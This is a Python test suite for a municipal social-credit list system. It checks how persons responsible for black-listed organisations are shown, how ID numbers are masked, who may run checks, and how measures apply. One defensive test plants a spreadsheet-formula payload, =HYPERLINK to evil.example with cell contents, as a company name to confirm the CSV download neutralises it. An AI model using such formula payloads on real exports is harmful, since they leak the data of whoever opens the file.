"""Art. 18 in joint checks: a natural person named as a responsible person on a seriously
dishonest organisation's black-list entry is shown as such (which entry, which
organisation, in what capacity), with the measures that reach responsible persons; through
the API, the page and its CSV download, the person's ID number never shown in clear.
Also the page's code list (typed or uploaded) and the measure definitions' Art. 18 data."""

# Fixtures are imported from tests.lists_helpers and then requested by name.
# ruff: noqa: F811

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from tests.collection_helpers import citizen_id_of
from tests.factories import PASSWORD, World
from tests.lists_helpers import (
    actor,
    fast_password_hashing,  # noqa: F401 - fixture
    headers,
    lists_loaded,  # noqa: F401 - fixture
    lists_world,  # noqa: F401 - fixture
    person_represents_company,
    published_entry,
    removed_by_two,
    settings,  # noqa: F401 - fixture
)
from xinyong.accounts.permissions import SYSTEM_ACTOR
from xinyong.clock import FixedClock
from xinyong.errors import InvalidInput
from xinyong.identifiers import mask_citizen_id
from xinyong.lists import applications, joint_checks, measures
from xinyong.lists.models import ListEntry, RemovalReason
from xinyong.lists.publicity import mask_code, mask_name

CHECKS = "/api/v1/joint-checks"
SERIOUS = "严重失信主体：严重破坏市场公平竞争秩序和社会正常秩序"


def responsible_world(db: Session, clock: FixedClock, world: World) -> ListEntry:
    """The company's legal representative is the world's natural person; the company is
    then listed as seriously dishonest, which names them on the entry (Art. 18)."""
    company = world.subjects["company"]
    person_represents_company(db, clock, world)
    entry = published_entry(db, clock, world, company, "serious_fair_competition")
    db.commit()
    return entry


def check(client: TestClient, who: dict[str, str], matter: str, codes: list[str]) -> Any:
    response = client.post(CHECKS, json={"matter": matter, "subjects": codes}, headers=who)
    assert response.status_code == 200, response.text
    return response.json()


def test_a_responsible_person_is_shown_with_entry_organisation_role_and_measures(
    lists_world: World, client: TestClient, db: Session, clock: FixedClock
) -> None:
    world = lists_world
    entry = responsible_world(db, clock, world)
    company, person = world.subjects["company"], world.subjects["person"]
    citizen_id = citizen_id_of(person)
    querier = headers(client, "querier")
    codes = [citizen_id, company.uscc or "", world.subjects["other_person"].reference]

    body = check(client, querier, "appointment", codes)

    named, listed, other = body["results"]
    assert named["found"] is True
    assert named["name"] == person.name
    assert named["list_status"] == []  # the person is not listed: the organisation is
    assert named["responsible_for"] == [
        {
            "entry_id": entry.id,
            "list": "black",
            "tier": "serious",
            "standard": SERIOUS,
            "basis": entry.legal_basis,
            "reasons": entry.reasons,
            "term_end": entry.term_end.isoformat() if entry.term_end else None,
            "role": "legal_representative",
            "organisation": {"code": company.uscc, "name": company.name},
        }
    ]
    (measure,) = named["measures"]
    assert measure["code"] == "pun_appointment"
    # The API's reasons are English, the capacity too: the names and basis are as recorded.
    assert measure["reasons"] == (
        f"Legal representative of {company.name} ({company.uscc}), listed as {SERIOUS} (Art. 18); "
        "《福州市社会信用管理办法》第十七条第（三）项、第十八条"
    )
    assert body["measures"]["pun_appointment"]["responsible_persons_basis"] == (
        "《福州市社会信用管理办法》第十七条第（三）项、第十八条"
    )
    # Under the organisation's punishment in the same answer, the person is not the
    # trustworthy applicant of Art. 16(1), however clean their own records.
    assert (named["green_channel"], named["green_channel_reason"]) == (
        False,
        "responsible_for_black",
    )
    assert body["green_channel_reasons"]["responsible_for_black"].endswith("(Art. 18)")
    assert [m["code"] for m in listed["measures"]] == ["pun_appointment"]
    assert listed["measures"][0]["reasons"].startswith(f"listed as {SERIOUS}; ")
    assert "responsible_for" not in other
    assert other["measures"] == []
    assert body["counts"]["responsible"] == 1
    assert citizen_id not in str(body)

    # The court's high-consumption restriction reaches a judgment debtor's responsible
    # persons, not those of an organisation listed for another conduct (Art. 15 ¶2).
    (high,) = check(client, querier, "high_consumption", [citizen_id])["results"]
    assert high["measures"] == []
    assert high["responsible_for"][0]["entry_id"] == entry.id
    # A measure whose definition does not reach responsible persons does not apply to them,
    # while the person is still shown as responsible.
    (honours,) = check(client, querier, "honours", [citizen_id])["results"]
    assert honours["measures"] == []
    assert honours["responsible_for"][0]["entry_id"] == entry.id


def test_only_entries_in_force_name_a_responsible_person(
    lists_world: World, client: TestClient, db: Session, clock: FixedClock
) -> None:
    world = lists_world
    entry = responsible_world(db, clock, world)
    removed_by_two(
        db,
        clock,
        world,
        entry.id,
        reason=RemovalReason.EXIT_CONDITIONS_MET,
        detail="信用修复完成",
        proposer="caseofficer",
        approver="caseofficer2",
    )
    db.commit()
    person = world.subjects["person"]
    (result,) = check(client, headers(client, "querier"), "appointment", [citizen_id_of(person)])[
        "results"
    ]
    assert "responsible_for" not in result
    assert result["measures"] == []


def form_token(client: TestClient) -> str:
    match = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/check-code").text)
    assert match
    return match.group(1)


def page_login(client: TestClient, username: str) -> str:
    response = client.post(
        "/login",
        data={"username": username, "password": PASSWORD, "csrf_token": form_token(client)},
        follow_redirects=False,
    )
    assert response.status_code == 303, response.text
    return form_token(client)


def test_a_name_that_is_a_formula_is_text_in_the_download(
    lists_world: World, client: TestClient, db: Session, clock: FixedClock
) -> None:
    """A subject's name comes from submitted files: one written as a spreadsheet formula
    must not run on the officer's machine when the download is opened."""
    company = lists_world.subjects["company"]
    company.name = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    db.flush()
    token = page_login(client, "querier")
    download = client.post(
        "/joint-check",
        data={
            "matter": "appointment",
            "codes": company.uscc,
            "download": "csv",
            "csrf_token": token,
        },
    )
    assert download.status_code == 200
    (row,) = list(csv.reader(io.StringIO(download.text.lstrip("\ufeff"))))[1:]
    assert row[3] == "'" + company.name


def test_the_page_and_its_download_show_the_responsibility_with_the_id_masked(
    lists_world: World, client: TestClient, db: Session, clock: FixedClock
) -> None:
    world = lists_world
    entry = responsible_world(db, clock, world)
    company, person = world.subjects["company"], world.subjects["person"]
    citizen_id = citizen_id_of(person)
    masked = mask_citizen_id(citizen_id)
    token = page_login(client, "querier")
    typed = f"{citizen_id}\n{company.uscc}\nnot a code"

    page = client.post(
        "/joint-check", data={"matter": "appointment", "codes": typed, "csrf_token": token}
    )

    assert page.status_code == 200, page.text
    assert citizen_id not in page.text
    assert masked in page.text
    table = page.text[page.text.index('id="joint-check-results"') :]
    assert "法定代表人" in table
    assert company.name in table
    assert f"{entry.id}" in table
    assert "限制任职资格" in table
    assert "第十八条" in table
    # Why each measure applies, in the page's words (the API's reasons are English).
    assert f"{company.name}（{company.uscc}）的法定代表人，该单位列入" in table
    assert " of " not in table
    assert "listed as" not in table

    download = client.post(
        "/joint-check",
        data={"matter": "appointment", "codes": typed, "download": "csv", "csrf_token": token},
    )
    assert download.status_code == 200
    assert download.headers["content-type"].startswith("text/csv")
    assert citizen_id not in download.text
    rows = list(csv.reader(io.StringIO(download.text.lstrip("\ufeff"))))
    # In the page's language, as the page says each answer: no English in a Chinese page's
    # download (the codes and names aside).
    assert rows[0][:4] == ["编号", "代码", "已登记", "信息主体"]
    named, listed, invalid = rows[1:]
    assert named[:4] == ["1", masked, "是", person.name]
    assert named[5] == f"法定代表人：{company.name}（{company.uscc}，{SERIOUS}）"
    assert "限制任职资格" in named[6]
    assert f"{company.name}（{company.uscc}）的法定代表人，该单位列入" in named[6]
    assert listed[:3] == ["2", company.uscc, "是"]
    assert SERIOUS in listed[4]
    assert invalid[0] == "3"
    assert invalid[2].startswith("不是有效的代码：")
    assert invalid[7:] == ["否", "不是有效的代码"]
    for line in rows[1:]:
        text = "".join(line).replace(company.uscc or "", "").replace("not a code", "")
        assert not re.search(r"[A-Za-z]{3,}", text), line
    english = client.post(
        "/joint-check?lang=en",
        data={"matter": "appointment", "codes": typed, "download": "csv", "csrf_token": token},
    )
    english_rows = list(csv.reader(io.StringIO(english.text.lstrip("\ufeff"))))
    assert english_rows[0][:3] == ["No.", "Code", "Registered"]
    assert english_rows[1][2] == "Yes"
    assert english_rows[3][2].startswith("not a valid code: ")

    # Uploaded as a GB18030 spreadsheet export with a header row: the same answer.
    upload = f"统一社会信用代码\n{citizen_id}\n".encode("gb18030")
    uploaded = client.post(
        "/joint-check",
        data={"matter": "appointment", "download": "csv", "csrf_token": token},
        files={"file": ("codes.csv", upload, "text/csv")},
    )
    assert uploaded.status_code == 200, uploaded.text
    assert list(csv.reader(io.StringIO(uploaded.text.lstrip("\ufeff"))))[1] == named


def test_who_may_see_a_responsible_person_and_how_much(
    lists_world: World, client: TestClient, db: Session, clock: FixedClock
) -> None:
    world = lists_world
    responsible_world(db, clock, world)
    person = world.subjects["person"]
    citizen_id = citizen_id_of(person)
    # Read before the requests: a refused request rolls back the session the test shares
    # with the app, which expires the person, and the request's end closes it.
    name = person.name
    body = {"matter": "appointment", "subjects": [citizen_id]}
    # Only those who apply measures in their work check (Art. 14): not a data reporter, not
    # the subject, not an analyst; nobody anonymous.
    assert client.post(CHECKS, json=body).status_code == 401
    for account in ("reporter", "company", "analyst"):
        assert client.post(CHECKS, json=body, headers=headers(client, account)).status_code == 403
    token = page_login(client, "reporter")
    refused = client.post(
        "/joint-check", data={"matter": "appointment", "codes": citizen_id, "csrf_token": token}
    )
    assert refused.status_code == 403
    assert citizen_id not in refused.text
    # The public black list names the responsible person masked, and never their number.
    public = client.get("/api/v1/lists/black")
    assert public.status_code == 200
    (item,) = [i for i in public.json()["items"] if i["tier"] == "serious"]
    assert item["responsible_persons"] == [
        {"role": "legal_representative", "name": mask_name(name)}
    ]
    assert name not in public.text
    assert citizen_id not in public.text
    page = client.get("/lists/black")
    assert name not in page.text
    assert citizen_id not in page.text


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("11010519491231002X", "110105********002X"),
        ("1101 0519 4912 3100 2x", "110105********002X"),
        ("110105194912310", "110105*********"),
        ("91350100M000100Y43", "91350100M000100Y43"),
        ("not a code", "not a code"),
    ],
)
def test_codes_shown_back_mask_anything_shaped_like_an_id_number(typed: str, shown: str) -> None:
    assert mask_code(typed) == shown


def test_the_code_list_comes_typed_or_as_a_csv_file() -> None:
    assert joint_checks.codes_from(" A1 \n\nB2,C3\n") == ["A1", "B2", "C3"]
    utf8 = "\ufeffcode,name\nD4,某公司\n,\nE5\n".encode()
    assert joint_checks.codes_from("A1", utf8) == ["A1", "D4", "E5"]
    assert joint_checks.codes_from("", "代码\nF6\n".encode("gb18030")) == ["F6"]
    with pytest.raises(InvalidInput) as refused:
        joint_checks.codes_from("", b"\xff\xfe\x00\xd8")
    assert refused.value.code == "encoding"
    with pytest.raises(InvalidInput) as too_large:
        joint_checks.codes_from("", b"x" * (joint_checks.MAX_UPLOAD_BYTES + 1))
    assert too_large.value.code == "too_large"


def test_a_measure_reaches_responsible_persons_only_with_its_basis(
    lists_loaded: Session, clock: FixedClock
) -> None:
    base = {
        "code": "pun_probe_responsible",
        "kind": "punishment",
        "head": 3,
        "name": "限制担任国有企业高级管理人员",
        "matter_codes": ["appointment"],
        "target": "serious",
        "means": "依法限制任职",
        "implementing_body": "市国资委",
        "implementer_kinds": ["state_organ"],
        "legal_basis": "《福州市社会信用管理办法》第十七条第（三）项",
        "severity": 4,
        "applies_to_responsible_persons": True,
    }
    with pytest.raises(InvalidInput) as no_basis:
        measures.create_measure(lists_loaded, clock, SYSTEM_ACTOR, base)
    assert (no_basis.value.code, no_basis.value.article) == ("required", "Art. 18")
    incentive = {
        **base,
        "kind": "incentive",
        "head": 1,
        "target": "red",
        "responsible_persons_basis": "第十八条",
    }
    with pytest.raises(InvalidInput) as wrong:
        measures.create_measure(lists_loaded, clock, SYSTEM_ACTOR, incentive)
    assert wrong.value.code == "wrong_target"
    made = measures.create_measure(
        lists_loaded,
        clock,
        SYSTEM_ACTOR,
        {**base, "responsible_persons_basis": "《福州市社会信用管理办法》第十八条"},
    )
    assert made.applies_to_responsible_persons is True
    assert made.responsible_persons_basis == "《福州市社会信用管理办法》第十八条"
    # The default list declares it as data, with the law that allows it.
    reaching = {
        m.code: m.responsible_persons_basis
        for m in measures.published_measures(lists_loaded)
        if m.applies_to_responsible_persons
    }
    assert set(reaching) == {"pun_high_consumption", "pun_appointment"}
    assert all(basis and "第十八条" in basis for basis in reaching.values())


def test_a_measure_that_reaches_responsible_persons_is_applied_to_the_named_person(
    lists_world: World, db: Session, clock: FixedClock
) -> None:
    """Art. 18 in the measure application: the joint check says the measure applies to
    the person, so applying it works, on the basis the measure states for persons, and
    the notice tells the person in what capacity and for which organisation."""
    world = lists_world
    responsible_world(db, clock, world)
    person, company = world.subjects["person"], world.subjects["company"]
    application = applications.apply(
        db,
        clock,
        actor(world, "caseofficer"),
        subject=person,
        matter_code="appointment",
        measure_code="pun_appointment",
        reasons="该单位被列为严重失信主体，其法定代表人依法限制任职资格",
    )
    measure = measures.by_code(db, "pun_appointment")
    assert application.basis.startswith(measure.responsible_persons_basis or "?")
    assert company.name in application.notice
    assert "法定代表人" in application.notice
    assert "限制任职资格" in application.notice
    # A measure that does not reach responsible persons is still refused for them.
    with pytest.raises(InvalidInput) as refused:
        applications.apply(
            db,
            clock,
            actor(world, "caseofficer"),
            subject=person,
            matter_code="government_procurement",
            measure_code="pun_public_resource_trading",
            reasons="依法实施",
        )
    assert (refused.value.code, refused.value.article) == ("not_applicable", "Art. 15 ¶2")


def test_a_red_listed_person_responsible_for_a_black_listed_organisation_gets_no_green_channel(
    lists_world: World, client: TestClient, db: Session, clock: FixedClock
) -> None:
    """Their own red-list entry does not outweigh the organisation's punishment measures
    applied to them in the same answer (Art. 16, 18)."""
    world = lists_world
    responsible_world(db, clock, world)
    person = world.subjects["person"]
    published_entry(db, clock, world, person, "integrity_model")
    db.commit()

    (named,) = check(client, headers(client, "querier"), "appointment", [citizen_id_of(person)])[
        "results"
    ]

    assert [s["list"] for s in named["list_status"]] == ["red"]
    assert [m["code"] for m in named["measures"]] == ["pun_appointment"]
    assert (named["green_channel"], named["green_channel_reason"]) == (
        False,
        "responsible_for_black",
    )
